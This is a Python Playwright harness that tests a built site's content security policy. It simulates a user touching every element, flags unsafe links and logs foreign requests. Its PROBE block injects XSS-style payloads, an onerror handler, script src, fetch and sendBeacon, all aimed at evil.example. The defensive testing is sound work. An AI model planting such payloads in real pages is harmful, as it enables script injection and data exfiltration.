"""Visits pages of a built site in a browser, touches everything on them, and tells what ran, loaded or was stopped."""

from __future__ import annotations

from dataclasses import astuple, dataclass, field

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Download, Error, Frame, Page, Request

TRIPWIRES = """
(() => {
  const tell = (what, detail) => console.info("tripwire", what, String(detail).slice(0, 300), location.href)
  for (const name of ["ran", "alert", "confirm", "prompt"])
    Object.defineProperty(window, name, { value: () => tell("ran", name) })
  Object.defineProperty(window, "__ran", { set: () => tell("ran", "__ran"), get: () => tell("ran", "__ran") })
  window.print = () => {}  // a button of ours, which would wait for somebody
  window.open = (url) => { tell("left", "window.open " + url); return null }
  document.addEventListener("securitypolicyviolation", (event) =>
    tell("violation", [event.effectiveDirective, event.blockedURI, event.sample].join(" ")))
})()
"""
"""Set before any script of a page: what hostile texts call, and what the policy stopped."""

TOUCH = """
async (base) => {
  const started = (element) => new Promise((done) => {
    element.addEventListener("timeline-ready", done, { once: true })
    setTimeout(done, 2000)
  })
  await Promise.all([...document.querySelectorAll("conflict-timeline:not([data-ready])")].map(started))
  const stay = (event) => { if (event.isTrusted || event.target.closest?.("a, form, button")) event.preventDefault() }
  for (const name of ["click", "auxclick", "submit"]) document.addEventListener(name, stay, true)
  for (const details of document.querySelectorAll("details")) details.open = true
  const inner = (element) => element.shadowRoot ? [element, ...element.shadowRoot.querySelectorAll("*")] : [element]
  const is = (element, selector) => Element.prototype.matches.call(element, selector)
  const all = [...document.querySelectorAll("article *, .md-search-result *")].flatMap(inner)
  const touched = all.length > 900 ? [...all.slice(0, 800), ...all.slice(-100)] : all
  for (const element of touched) {
    for (const name of ["pointerover", "pointerenter", "pointermove"])
      element.dispatchEvent(new PointerEvent(name, { bubbles: true, cancelable: true }))
    for (const name of ["mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "mouseout"])
      element.dispatchEvent(new MouseEvent(name, { bubbles: true, cancelable: true }))
    if (is(element, "a, area, button, input, select, textarea, label, summary, details, img, svg, [tabindex]")) {
      element.focus?.({ preventScroll: true })
      element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))
    }
  }
  for (const details of document.querySelectorAll("details")) details.open = true
  const wrong = []
  for (const link of document.querySelectorAll("a[href], area[href]")) {
    const own = link.href.startsWith(base)
    if (!own && !["http:", "https:", "mailto:"].includes(link.protocol)) wrong.push(link.outerHTML)
    if (!own && !["noopener", "noreferrer"].every((word) => link.relList.contains(word))) wrong.push(link.outerHTML)
    if (/^\\s*[\\\\/]{2}/.test(link.getAttribute("href"))) wrong.push(link.outerHTML)
  }
  const points = []
  for (const element of document.querySelectorAll("article a, article img, article summary, article [title]")) {
    const box = element.getBoundingClientRect()
    if (box.width && box.top > 120 && box.bottom < innerHeight) points.push([box.left + 2, box.top + box.height / 2])
  }
  return [wrong, points.slice(0, 2)]
}
"""
"""Sends every event of a mouse to everything in an article without leaving the page; gives links that are not as they
should be, and points over which a real mouse may move."""

PROBE = """
() => {
  const box = document.createElement("div")
  box.innerHTML = '<img src="//evil.example/image" onerror="ran()"><iframe src="//evil.example/frame"></iframe>' +
    '<style>@import url(//evil.example/style.css)</style><p style="background: url(//evil.example/background)">x</p>' +
    '<video src="//evil.example/video"></video><embed src="//evil.example/embed">'
  document.body.append(box)
  const scripts = [["textContent", "ran()"], ["src", "//evil.example/script.js"]]
  for (const [name, value] of scripts) document.body.append(Object.assign(document.createElement("script"), { [name]: value }))
  fetch("//evil.example/fetch").catch(() => {})
  navigator.sendBeacon("//evil.example/beacon", "x")
  return new Promise((done) => setTimeout(done, 80))
}
"""
"""Puts into a page what an attacker would, behind every cleaning; only the policy is left to stop it."""


@dataclass
class Findings:
    """What visits met; all lists are empty where pages are harmless.

    Attributes:
        ran: scripts that reached a tripwire.
        foreign: requests to anything but the site that the policy did not stop.
        violations: what the policy stopped.
        left: ways out of the page: other addresses, windows, dialogues, downloads.
        links: links with a scheme or a relation that they should not have.
        errors: errors of scripts, and messages of the browser.
    """

    ran: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    left: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def __bool__(self) -> bool:
        return any(astuple(self))


class Visitor:
    """A reader who touches everything.

    Args:
        context: a fresh context of a browser.
        base: what every address of the site begins with.

    Attributes:
        findings: what was met so far.
    """

    def __init__(self, context: BrowserContext, base: str) -> None:
        self.findings = Findings()
        self._base = base
        context.add_init_script(TRIPWIRES)
        self.page: Page = context.new_page()
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.findings.errors.append(f"{self.page.url}: {error}"))
        self.page.on("request", self._request)
        self.page.on("requestfailed", self._failed)
        self.page.on("dialog", self._dialog)
        self.page.on("download", self._download)
        self.page.on("framenavigated", self._navigated)
        context.on("page", lambda page: self.findings.left.append(f"a window {page.url}"))

    def visit(self, url: str) -> None:
        """Open a page and touch everything on it."""
        self.page.goto(f"{self._base}/{url}", wait_until="domcontentloaded")
        self.touch()

    def touch(self) -> None:
        """Touch everything on the page that is open."""
        for attempt in range(3):
            try:
                wrong, points = self.page.evaluate(TOUCH, self._base)
                break
            except Error:  # the page of a former address leads on by itself
                if attempt == 2:
                    raise
                self.page.wait_for_load_state()
        self.findings.links += [f"{self.page.url}: {link}" for link in wrong]
        for x, y in points:
            self.page.mouse.move(x, y)

    def probe(self, url: str) -> Findings:
        """Open a page, put an attack into it, and give what came of it."""
        self.page.goto(f"{self._base}/{url}", wait_until="domcontentloaded")
        self.findings = Findings()
        self.page.evaluate(PROBE)
        return self.findings

    def search(self, words: str) -> int:
        """Type words into the search, and touch what it shows; give how many results it shows."""
        field = self.page.locator(".md-search__input")
        field.click()
        field.fill("")
        self.page.locator(".md-search-result__meta", has_text="Type to start").wait_for()
        field.press_sequentially(words[:-1], delay=0)
        field.press_sequentially(words[-1:])
        self.page.locator(".md-search-result__meta", has_text="matching").wait_for()
        self.page.wait_for_timeout(60)  # the last key's results come by themselves
        results = self.page.locator(".md-search-result__link")
        for place in range(min(2, results.count())):
            results.nth(place).hover()
        self.touch()
        return results.count()

    def _console(self, message: ConsoleMessage) -> None:
        words = message.text.split(" ", 2)
        if words[0] != "tripwire":
            self.findings.errors.append(f"{self.page.url}: {message.type} {message.text}")
        else:
            {"ran": self.findings.ran, "left": self.findings.left, "violation": self.findings.violations}[
                words[1]
            ].append(words[2])

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self._base, "data:", "blob:")):
            self.findings.foreign.append(request.url)

    def _failed(self, request: Request) -> None:
        if request.failure == "csp" and request.url in self.findings.foreign:
            self.findings.foreign.remove(request.url)  # it never left, and is told as a violation

    def _dialog(self, dialog: Dialog) -> None:
        self.findings.left.append(f"{self.page.url}: a dialogue {dialog.message}")
        dialog.dismiss()

    def _download(self, download: Download) -> None:
        if not download.url.startswith((self._base, f"blob:{self._base}")):  # pages offer files of their own
            self.findings.left.append(f"{self.page.url}: a download {download.url}")

    def _navigated(self, frame: Frame) -> None:
        if not frame.url.startswith((self._base, "about:blank")) or frame.parent_frame:
            self.findings.left.append(f"{self.page.url}: {frame.url}")
